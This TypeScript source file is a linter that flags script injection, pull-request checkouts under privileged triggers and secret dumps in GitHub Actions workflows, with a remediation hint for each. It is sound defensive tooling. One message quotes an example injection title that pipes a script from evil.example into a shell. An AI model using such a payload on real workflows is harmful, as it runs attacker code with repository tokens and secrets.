import { isAlias, isMap, isScalar, isSeq, LineCounter, parseDocument, visit, type Document, type Node } from 'yaml';
import { boundedText } from '../report/safeText.ts';
import { githubYamlText } from './githubYaml.ts';
import { expressionsIn, headContext, readsAllSecrets, untrustedContext } from './workflowExpressions.ts';
import { envNamesHead, runCheckouts, type FetchedHead } from './workflowRunCheckout.ts';
import { runsOnlyForSameRepository } from './workflowGuards.ts';

const RULE_IDS = ['template-workflow-injection', 'template-workflow-pr-target-checkout', 'template-workflow-secrets-dump'] as const;

export interface WorkflowFinding {
  ruleId: (typeof RULE_IDS)[number];
  /** Starts with the rendered file's path, line and column, as the other findings on the rendered tree do. */
  message: string;
  hint: string;
}

// The triggers that run with the base repository's secrets and a token that can write, whatever the pull
// request's author may do: GitHub's docs and GitHub Security Lab's "Preventing pwn requests" warn against
// checking out the pull request's code under them. issue_comment runs for a comment on a pull request too,
// by anyone who can comment.
const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];

/**
 * The patterns GitHub's "Security hardening for GitHub Actions" warns about, in one rendered workflow: an
 * untrusted context expanded into a step's `run:` (or actions/github-script's `script:`); a pull_request_target,
 * workflow_run or issue_comment workflow that checks out the pull request's code, with actions/checkout or in a
 * `run:` script (gh pr checkout, git fetch of refs/pull/N/head then git checkout FETCH_HEAD …); and an
 * expression that hands over every secret at once (toJSON(secrets), secrets.*, or secrets: inherit to another
 * repository's workflow). Under those triggers, the pull request's code brought in otherwise (an applied diff, an
 * archive of its head, a github-script exec, a workflow_run artifact then run) counts as a checkout, and with
 * `local` (the rendered tree) the repository's own composite actions and reusable workflows are judged on the
 * caller's trigger. A value passed through `env:` (the
 * documented fix) is not in the script and is not reported. Nothing is said of a file that does not parse
 * (template-output-invalid says that). Pure; the caller bounds the text.
 */
export function workflowSecurityFindings(path: string, text: string, local?: LocalFile, via?: CalledFrom): WorkflowFinding[] {
  const file = parseFile(path, text);
  if (!file) return [];
  const { doc, at } = file;
  const found = new Map<string, WorkflowFinding>();
  const root = via?.root ?? path.replace(/\.github\/workflows\/[^/]+$/, '');
  const chain = [...(via?.chain ?? []), path];
  // A workflow this repository's own calls (uses: ./.github/workflows/…) runs on its caller's trigger.
  const triggers = via?.triggers ?? triggerNames(doc, get(doc, doc.contents, 'on')).filter(t => PRIVILEGED_TRIGGERS.includes(t));
  const fileTriggers = via ? triggers.map((t, i) => (i === triggers.length - 1 ? `${t} (as ${boundedText(via.caller, 200)} calls it)` : t)) : triggers;
  const workflowEnv = headEnv(doc, get(doc, doc.contents, 'env'), new Set());
  const jobs = get(doc, doc.contents, 'jobs');
  for (const job of isMap(jobs) ? jobs.items.map(pair => resolve(doc, pair.value as Node | null)) : []) {
    const steps = get(doc, job, 'steps');
    const called = scalarText(get(doc, job, 'uses'));
    const inherit = get(doc, job, 'secrets');
    // A job that runs only for a head in this repository itself runs no outsider's code (workflowGuards.ts).
    const jobGuarded = triggers.length > 0 && sameRepositoryOnly(doc, job, triggers);
    // secrets: inherit hands every secret to the called workflow: this repository's own (./…) is code it
    // already trusts; another repository's is not.
    if (called !== undefined && !called.trim().startsWith('./') && scalarText(inherit)?.trim() === 'inherit' && inherit?.range) {
      const where = at(inherit.range[0]);
      found.set(`s${where}`, secretsInherit(where, boundedText(called.trim(), 120)));
    }
    if (called !== undefined && called.trim().startsWith('./') && triggers.length && !jobGuarded && local && chain.length < MAX_CALL_DEPTH) {
      const target = root + called.trim().replace(/^\.\//, '');
      const calledText = chain.includes(target) ? undefined : local(target);
      if (calledText !== undefined) for (const f of workflowSecurityFindings(target, calledText, local, { triggers, caller: path, chain, root })) found.set(`w${f.ruleId} ${f.message.split(': ')[0]}`, f);
    }
    const jobEnv = headEnv(doc, get(doc, job, 'env'), workflowEnv);
    const fetched: FetchedHead = { fetchHead: false, branches: new Set(), envHead: new Set() };
    // An artifact a workflow_run downloads from the run that triggered it (the pull request's build): found
    // when a later step runs something.
    let artifact: { where: string; shown: string } | undefined;
    const judgeSteps = (stepsFile: ParsedFile, stepNodes: (Node | undefined)[], depth: readonly string[], guarded: boolean) => {
    const { doc, text, at } = stepsFile;
    const shownTriggers = stepsFile === file ? fileTriggers : triggers.map((t, i) => (i === triggers.length - 1 ? `${t} (as ${boundedText(path, 200)} calls it)` : t));
    for (const step of stepNodes) {
      // Checking out (or running) the head's code in a step that runs only for this repository's own heads is safe.
      const privileged = triggers.length > 0 && !guarded && !sameRepositoryOnly(doc, step, triggers);
      const uses = scalarText(get(doc, step, 'uses'));
      const inputs = get(doc, step, 'with');
      if (artifact && (get(doc, step, 'run') !== undefined || uses?.trim().startsWith('./'))) {
        found.set(`a${artifact.where}`, artifactRun(artifact.where, artifact.shown));
        artifact = undefined;
      }
      const usesNode = get(doc, step, 'uses');
      if (privileged && triggers.includes('workflow_run') && usesNode?.range && uses !== undefined && (/^dawidd6\/action-download-artifact(@|$)/i.test(uses) || (/^actions\/download-artifact(@|$)/i.test(uses) && (get(doc, inputs, 'run-id') !== undefined || get(doc, inputs, 'github-token') !== undefined)))) {
        artifact ??= { where: at(usesNode.range[0]), shown: boundedText(uses, 120) };
      }
      // A composite action of this repository's own (uses: ./.github/actions/…): its steps are this job's.
      if (uses?.trim().startsWith('./') && privileged && local && depth.length < MAX_CALL_DEPTH) {
        const dir = root + uses.trim().replace(/^\.\//, '').replace(/\/+$/, '');
        const actionPath = [`${dir}/action.yml`, `${dir}/action.yaml`].find(p => local(p) !== undefined);
        const action = actionPath && !depth.includes(actionPath) ? parseFile(actionPath, local(actionPath)!) : undefined;
        const runs = action && get(action.doc, action.doc.contents, 'runs');
        const actionSteps = action && get(action.doc, runs, 'steps');
        if (action && isSeq(actionSteps) && /^composite$/i.test(scalarText(get(action.doc, runs, 'using'))?.trim() ?? '')) {
          judgeSteps(action, actionSteps.items.map(item => resolve(action.doc, item as Node | null)), [...depth, action.path], false);
        }
      }
      if (privileged && /^actions\/github-script(@|$)/i.test(uses ?? '')) {
        const node = get(doc, inputs, 'script');
        const value = scalarText(node);
        const exec = value === undefined ? null : /\bexec\w*(?:\.\w+)?\s*\(\s*(?:(['"`])git\1\s*,\s*\[\s*(['"`])(?:checkout|switch|reset|merge|pull|worktree|clone)\2|(['"`])git\s+(?:checkout|switch|reset|merge|pull|worktree|clone)\b)/.exec(value);
        const head = value !== undefined && (/\bpayload\s*\.\s*(?:pull_request\s*\.\s*(?:head|merge_commit_sha)|workflow_run\s*\.\s*(?:head_sha|head_branch|pull_requests))\b/.test(value) || expressionsIn(value).some(e => headContext(e.text) !== undefined));
        if (exec && head && node?.range && value !== undefined) {
          const where = at(commandOffset(text, node.range, value, exec.index));
          found.set(`r${where}`, runCheckout(where, shownTriggers, boundedText(exec[0], 120), 'actions/github-script step'));
        }
      }
      const scripts: [Node | undefined, string][] = [[get(doc, step, 'run'), 'shell script']];
      if (/^actions\/github-script(@|$)/i.test(uses ?? '')) scripts.push([get(doc, inputs, 'script'), 'JavaScript']);
      for (const [node, language] of scripts) {
        const value = scalarText(node);
        if (value === undefined || !node?.range) continue;
        let offsets: number[] | undefined;
        for (const expression of expressionsIn(value)) {
          const context = untrustedContext(expression.text);
          if (context === undefined) continue;
          offsets ??= expressionOffsets(text, node.range);
          const where = at(offsets[expression.index] ?? node.range[0]);
          found.set(`i${where}`, injection(where, expression.text, context, language));
        }
      }
      const run = get(doc, step, 'run');
      const script = scalarText(run);
      if (privileged && script !== undefined && run?.range) {
        const variables = new Set([...(fetched.envHead ?? []), ...headEnv(doc, get(doc, step, 'env'), jobEnv)]);
        for (const command of runCheckouts(script, variables, fetched)) {
          const where = at(commandOffset(text, run.range, script, command.start));
          found.set(`r${where}`, runCheckout(where, shownTriggers, boundedText(command.command, 120)));
        }
      }
      if (!privileged || !/^actions\/checkout(@|$)/i.test(uses ?? '')) continue;
      for (const key of ['ref', 'repository']) {
        const node = get(doc, inputs, key);
        const value = scalarText(node);
        if (value === undefined || !node?.range) continue;
        const head = expressionsIn(value).find(e => headContext(e.text) !== undefined);
        const pull = /refs\/pull\//.test(value);
        if (!head && !pull) continue;
        const where = at(head ? expressionOffsets(text, node.range)[head.index] ?? node.range[0] : node.range[0]);
        found.set(`c${where}`, headCheckout(where, shownTriggers, key, boundedText(head?.text ?? value.replace(/\s+/g, ' '), 120)));
      }
    }
    };
    judgeSteps(file, isSeq(steps) ? steps.items.map(item => resolve(doc, item as Node | null)) : [], chain, jobGuarded);
  }
  visit(doc, {
    Scalar(_, node) {
      if (typeof node.value !== 'string' || !node.range || !node.value.includes('${{')) return;
      let offsets: number[] | undefined;
      for (const expression of expressionsIn(node.value)) {
        if (!readsAllSecrets(expression.text)) continue;
        offsets ??= expressionOffsets(text, node.range);
        const where = at(offsets[expression.index] ?? node.range[0]);
        found.set(`s${where}`, secretsDump(where, boundedText(expression.text, 120)));
      }
    },
  });
  return firstFew([...found.values()]);
}

/** Reads a file of the rendered tree by its path there, or undefined when it has none. */
export type LocalFile = (path: string) => string | undefined;

/** The caller of a workflow this repository's own calls: its triggers, its path, the files of the call chain so far and where the tree's root is. */
interface CalledFrom {
  triggers: string[];
  caller: string;
  chain: readonly string[];
  root: string;
}

interface ParsedFile {
  path: string;
  text: string;
  doc: Document;
  /** An offset as path:line:column. */
  at: (offset: number) => string;
}

// GitHub runs reusable workflows nested up to four levels, and composite actions ten deep: a few levels read here.
const MAX_CALL_DEPTH = 5;

function parseFile(path: string, text: string): ParsedFile | undefined {
  const lineCounter = new LineCounter();
  const doc = parseDocument(githubYamlText(text), { lineCounter, keepSourceTokens: false, logLevel: 'silent' });
  if (doc.errors.length || !isMap(doc.contents)) return undefined;
  const shownPath = boundedText(path, 200);
  return {
    path,
    text,
    doc,
    at: offset => {
      const { line, col } = lineCounter.linePos(offset);
      return `${shownPath}:${line}:${col}`;
    },
  };
}

/**
 * The names of an env: mapping whose values name the pull request's head, over those `outer` gives (a name
 * set again here with another value no longer counts).
 */
function headEnv(doc: Document, env: Node | undefined, outer: ReadonlySet<string>): Set<string> {
  const names = new Set(outer);
  if (!isMap(env)) return names;
  for (const pair of env.items) {
    if (!isScalar(pair.key)) continue;
    const name = String(pair.key.value);
    const value = scalarText(resolve(doc, pair.value as Node | null));
    if (value !== undefined && envNamesHead(value)) names.add(name);
    else names.delete(name);
  }
  return names;
}

/**
 * Where a command of a run: script is in the file: its first line (up to any expression) looked up in the
 * scalar's source, as many times over as it occurs before in the value; the scalar's start when the source
 * spells it otherwise (a folded or escaped line).
 */
function commandOffset(text: string, range: readonly number[], script: string, start: number): number {
  const lineEnd = script.slice(start).search(/\$\{\{|\r|\n/);
  const needle = script.slice(start, lineEnd === -1 ? undefined : start + lineEnd).trimEnd();
  const source = text.slice(range[0], range[1]);
  if (!needle) return range[0];
  let before = 0;
  for (let i = script.indexOf(needle); i !== -1 && i < start; i = script.indexOf(needle, i + 1)) before++;
  let at = source.indexOf(needle);
  for (; at !== -1 && before > 0; before--) at = source.indexOf(needle, at + 1);
  return at === -1 ? range[0] : range[0] + at;
}

/** A skeleton loop can paste one expression into thousands of steps: the first few of each rule, the last counting the rest. */
function firstFew(findings: WorkflowFinding[], few = 5): WorkflowFinding[] {
  const kept: WorkflowFinding[] = [];
  for (const ruleId of RULE_IDS) {
    const mine = findings.filter(f => f.ruleId === ruleId);
    kept.push(...mine.slice(0, few));
    if (mine.length > few) kept[kept.length - 1] = { ...kept[kept.length - 1], message: `${kept[kept.length - 1].message} This file has ${mine.length - few} more like it, not listed.` };
  }
  return kept;
}

function injection(where: string, expression: string, context: string, language: string): WorkflowFinding {
  const last = (context.split('.').pop() ?? '').toUpperCase();
  const name = /^[A-Z_][A-Z0-9_]{0,39}$/.test(last) ? last : 'VALUE';
  const shown = boundedText(expression, 120);
  const javascript = language === 'JavaScript';
  return {
    ruleId: 'template-workflow-injection',
    message: `${where}: ${shown} is pasted into the step's ${language} before it runs. Every repository this template creates gets a workflow where anyone who can open an issue or pull request, comment, or name a branch or commit can run ${javascript ? 'code' : 'commands'} with its token and secrets, by writing them into that text (a title such as a"; curl evil.example | sh; echo ").`,
    hint: `Pass it through env: (env: {${name}: ${shown}}) and use ${javascript ? `process.env.${name}` : `"$${name}"`} in the ${javascript ? 'script' : 'run: script'}, as GitHub's "Security hardening for GitHub Actions" advises.`,
  };
}

function headCheckout(where: string, triggers: readonly string[], key: string, shown: string): WorkflowFinding {
  return {
    ruleId: 'template-workflow-pr-target-checkout',
    message: `${where}: this workflow runs on ${triggers.join(' and ')}, with the repository's secrets and a token that can write, and its actions/checkout step checks out the pull request's own code (${key}: ${shown}). Every repository this template creates gets a workflow where anyone who opens a pull request can run commands with its token: the build scripts, package.json or setup.py of their branch run in the steps after the checkout.`,
    hint: CHECKOUT_HINT,
  };
}

function artifactRun(where: string, shown: string): WorkflowFinding {
  return {
    ruleId: 'template-workflow-pr-target-checkout',
    message: `${where}: this workflow runs on workflow_run, with the repository's secrets and a token that can write, and its ${shown} step downloads an artifact of the run that triggered it (a pull request's build, from its own code), then a later step runs commands in the same job. Every repository this template creates gets a workflow where anyone who opens a pull request can run commands with its token: the files of that artifact are theirs.`,
    hint: 'Treat the artifact as data: download it into a directory no later step runs (not the workspace), never execute or source what it holds, and run the pull request\'s build under on: pull_request, as GitHub Security Lab\'s "Preventing pwn requests" advises.',
  };
}

function runCheckout(where: string, triggers: readonly string[], shown: string, kind = 'run: step'): WorkflowFinding {
  return {
    ruleId: 'template-workflow-pr-target-checkout',
    message: `${where}: this workflow runs on ${triggers.join(' and ')}, with the repository's secrets and a token that can write, and its ${kind} checks out the pull request's own code (${shown}). Every repository this template creates gets a workflow where anyone who opens a pull request can run commands with its token: the build scripts, package.json or setup.py of their branch run in the commands after the checkout.`,
    hint: CHECKOUT_HINT,
  };
}

const CHECKOUT_HINT = 'Use on: pull_request (no secrets and a read-only token for pull requests from forks), or check out the base ref (leave actions/checkout\'s ref unset; no gh pr checkout, no git checkout of the pull request\'s head or refs/pull/…) and never run the pull request\'s code under pull_request_target, workflow_run or issue_comment, as GitHub\'s "Security hardening for GitHub Actions" advises.';

function secretsDump(where: string, shown: string): WorkflowFinding {
  return {
    ruleId: 'template-workflow-secrets-dump',
    message: `${where}: ${shown} hands every secret the workflow can read (the repository's, its environment's and the organisation's it is granted) to this one place, as one JSON text. Every repository this template creates gets a workflow where whatever reads that value, the step's commands, the action it calls and whatever they install, holds all of them rather than the one it needs; and GitHub hides only each secret's exact value in the log, so a copy printed encoded or reshaped shows them all.`,
    hint: 'Pass each secret the step needs by name (env: {API_TOKEN: ${{ secrets.API_TOKEN }}}), so the step holds only what it uses.',
  };
}

function secretsInherit(where: string, called: string): WorkflowFinding {
  return {
    ruleId: 'template-workflow-secrets-dump',
    message: `${where}: secrets: inherit hands every secret the workflow can read (the repository's, its environment's and the organisation's it is granted) to ${called}, a workflow outside this repository. Every repository this template creates gets a workflow where whoever can change that workflow, or the ref it names, holds all of them rather than the ones it needs.`,
    hint: 'Pass each secret the called workflow needs by name (secrets: {API_TOKEN: ${{ secrets.API_TOKEN }}}), or call a workflow of this repository (uses: ./.github/workflows/…).',
  };
}

/**
 * The trigger names of `on:`: a name, a list of names, or a mapping keyed by them. Unknown shapes give none
 * (GitHub's parser reports them).
 */
function triggerNames(doc: Document, on: Node | undefined): string[] {
  // An alias names its anchor's trigger (`on: [*event]`), as GitHub's parser reads it.
  const name = (node: unknown) => {
    const value = resolve(doc, node as Node | null);
    return isScalar(value) ? [String(value.value)] : [];
  };
  if (isScalar(on)) return [String(on.value)];
  if (isSeq(on)) return on.items.flatMap(name);
  if (isMap(on)) return on.items.flatMap(pair => name(pair.key));
  return [];
}

/** The value at `key` of a mapping node (an alias followed to its anchor), else undefined. */
function get(doc: Document, node: Node | null | undefined, key: string): Node | undefined {
  if (!isMap(node)) return undefined;
  // A plain key YAML 1.1 reads as a boolean (`on`) is still the word GitHub reads: matched by its source.
  const pair = node.items.find(p => isScalar(p.key) && (p.key.value === key || (typeof p.key.value !== 'string' && p.key.source === key)));
  return resolve(doc, (pair?.value as Node | null | undefined) ?? null);
}

function resolve(doc: Document, node: Node | null): Node | undefined {
  // An alias is followed one step: its anchor's node is where the text, and so the finding, is.
  return (isAlias(node) ? (node.resolve(doc) as Node | undefined) : node) ?? undefined;
}

/** Whether a job's or step's `if:` lets it run only for a head in this repository itself (runsOnlyForSameRepository). */
function sameRepositoryOnly(doc: Document, node: Node | undefined, triggers: readonly string[]): boolean {
  const condition = scalarText(get(doc, node, 'if'));
  return condition !== undefined && runsOnlyForSameRepository(condition, triggers);
}

function scalarText(node: Node | undefined): string | undefined {
  return isScalar(node) && typeof node.value === 'string' ? node.value : undefined;
}

/**
 * The offsets of the expressions in a scalar's source (a block scalar's lines, a quoted string's text), in
 * order: its value holds the same ones in the same order, so the nth expression of the value is at the nth.
 */
function expressionOffsets(text: string, range: readonly number[]): number[] {
  return expressionsIn(text.slice(range[0], range[1])).map(e => range[0] + e.start);
}
